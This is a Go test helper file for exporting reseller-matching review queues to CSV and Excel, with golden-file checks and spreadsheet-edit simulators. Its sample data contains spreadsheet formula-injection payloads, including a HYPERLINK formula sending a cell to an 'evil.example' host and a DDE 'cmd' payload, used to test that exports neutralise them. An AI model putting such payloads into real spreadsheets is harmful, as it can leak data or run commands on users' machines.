package review

import (
	"bytes"
	"encoding/csv"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// golden compares got with testdata/name, or rewrites the file with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if bytes.Equal(got, want) {
		return
	}
	g, w := strings.SplitAfter(string(got), "\n"), strings.SplitAfter(string(want), "\n")
	for i := 0; ; i++ {
		var gl, wl string
		if i < len(g) {
			gl = g[i]
		}
		if i < len(w) {
			wl = w[i]
		}
		if gl != wl {
			t.Errorf("%s differs from the golden file at line %d (run go test -update to accept):\n got %q\nwant %q", path, i+1, gl, wl)
			return
		}
	}
}

// fixedNow makes the import time fixed for the test.
func fixedNow(t *testing.T) time.Time {
	t.Helper()
	at := time.Date(2026, 3, 2, 9, 30, 15, 0, time.UTC)
	old := now
	now = func() time.Time { return at.Add(123 * time.Millisecond) } // truncated to the second on import
	t.Cleanup(func() { now = old })
	return at
}

// sampleItems is a review queue covering the tricky cases: formula-like names, leading
// zeros, accents, quotes, separators and line breaks in names, 0 to 3 candidates,
// negative and unknown revenue.
func sampleItems() []Item {
	return []Item{
		{Distributor: "ACME", ResellerID: "R001", ResellerName: "Müller Bürotechnik GmbH", ResellerPostcode: "01234",
			ResellerCity: "Dresden", ResellerCountry: "DE", Lines: 1204, Revenue: "98765.43", Reason: "two close candidates",
			Candidates: []Candidate{
				{PartnerID: "P1001", Name: "Müller Bürotechnik", Postcode: "01234", City: "Dresden", Score: 0.81, Evidence: "name 0.93, postcode equal"},
				{PartnerID: "P1002", Name: "Mueller Buero GmbH", Postcode: "01239", City: "Dresden", Score: 0.79, Evidence: "name 0.88, same city"},
				{PartnerID: "P2003", Name: "Müller & Söhne", Postcode: "80331", City: "München", Score: 0.41, Evidence: "name 0.71"},
			}},
		{Distributor: "ACME", ResellerID: "", ResellerName: `=HYPERLINK("http://evil.example/?"&A1,"click")`, ResellerPostcode: "",
			ResellerCity: "+Plus City", ResellerCountry: "DE", Lines: 3, Revenue: "1500.00", Reason: "no reseller id",
			Candidates: []Candidate{
				{PartnerID: "P3000", Name: "@Home Office", Postcode: "10115", City: "Berlin", Score: 0.5, Evidence: "-5% after penalty"},
				{PartnerID: "-P9", Name: "=cmd|' /C calc'!A0", Postcode: "", City: "", Score: 0.25, Evidence: "+1 weak"},
			}},
		{Distributor: "BETA", ResellerID: "-12", ResellerName: "+Plus Shop", ResellerPostcode: "@01",
			ResellerCity: "\tTabbed", ResellerCountry: "NL", Lines: 1, Revenue: "-120.50", Reason: "=reason",
			Candidates: []Candidate{{PartnerID: "P4000", Name: "Plus Shop B.V.", Postcode: "1012 AB", City: "Amsterdam", Score: 1, Evidence: ""}}},
		{Distributor: "BETA", ResellerID: "R4", ResellerName: "'s-Hertogenbosch Kantoor, \"De Pijp\"", ResellerPostcode: "5211",
			ResellerCity: "'s-Hertogenbosch", ResellerCountry: "NL", Lines: 0, Revenue: "0", Reason: "no candidate"},
		{Distributor: "BETA", ResellerID: "R5", ResellerName: "'=already quoted", ResellerPostcode: "''-twice",
			ResellerCity: "Utrecht", ResellerCountry: "NL", Lines: 7, Revenue: "", Reason: "revenue unknown",
			Candidates: []Candidate{{PartnerID: "P5000", Name: "Quoted B.V.", City: "Utrecht", Score: 0.333333, Evidence: "line\nbreak"}}},
		{Distributor: "@GAMMA", ResellerID: "0042", ResellerName: "Line\nbreak; semi\ttab", ResellerPostcode: " 75001 ",
			ResellerCity: "Paris", ResellerCountry: "FR", Lines: 99, Revenue: "12345678.9", Reason: "",
			Candidates: []Candidate{
				{PartnerID: "P6000", Name: "Ligne", City: "Paris", Score: 0.6},
				{PartnerID: "P6001", Name: "Saut", City: "Lyon", Score: 0.59},
			}},
	}
}

// keyOf is the key of item it.
func keyOf(it Item) Key {
	return Key{it.Distributor, it.ResellerID, it.ResellerName, it.ResellerPostcode}
}

// writeExport writes items to dir/name in the format of its extension.
func writeExport(t *testing.T, dir, name string, items []Item) string {
	t.Helper()
	var buf bytes.Buffer
	var err error
	if strings.HasSuffix(name, ".xlsx") {
		err = WriteXLSX(&buf, items)
	} else {
		err = WriteCSV(&buf, items)
	}
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// csvEdit rewrites the CSV export at path as a spreadsheet program might save it:
// edit changes the records (header first); comma is the separator, bom and crlf say
// whether to write a byte-order mark and CR LF line ends.
type csvSave struct {
	comma     rune
	bom, crlf bool
}

func csvEdit(t *testing.T, path string, save csvSave, edit func(recs [][]string) [][]string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte(utf8BOM))))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	recs = edit(recs)
	var buf bytes.Buffer
	if save.bom {
		buf.WriteString(utf8BOM)
	}
	w := csv.NewWriter(&buf)
	if save.comma != 0 {
		w.Comma = save.comma
	}
	w.UseCRLF = save.crlf
	if err := w.WriteAll(recs); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// csvSetCells returns an edit that sets cells by data row (from 1, header excluded)
// and column name.
func csvSetCells(cells map[int]map[string]string) func([][]string) [][]string {
	return func(recs [][]string) [][]string {
		for row, set := range cells {
			for name, v := range set {
				for i, h := range recs[0] {
					if h == name {
						recs[row][i] = v
					}
				}
			}
		}
		return recs
	}
}

// xlsxEdit opens the workbook at path, lets edit change it and saves it.
func xlsxEdit(t *testing.T, path string, edit func(f *excelize.File)) {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	edit(f)
	if err := f.Save(); err != nil {
		t.Fatal(err)
	}
}

// xlsxSetCells sets string cells of the Review sheet by data row (from 1, header
// excluded) and column name, as an analyst typing text would.
func xlsxSetCells(t *testing.T, cells map[int]map[string]string) func(*excelize.File) {
	return func(f *excelize.File) {
		t.Helper()
		for row, set := range cells {
			for name, v := range set {
				if err := f.SetCellStr(reviewSheet, columnRef(t, name, row+1), v); err != nil {
					t.Fatal(err)
				}
			}
		}
	}
}

// columnRef is the cell reference of an export column in sheet row r.
func columnRef(t *testing.T, name string, r int) string {
	t.Helper()
	for i, c := range exportColumns {
		if c.name == name {
			ref, err := excelize.CoordinatesToCellName(i+1, r)
			if err != nil {
				t.Fatal(err)
			}
			return ref
		}
	}
	t.Fatalf("no column %q", name)
	return ""
}
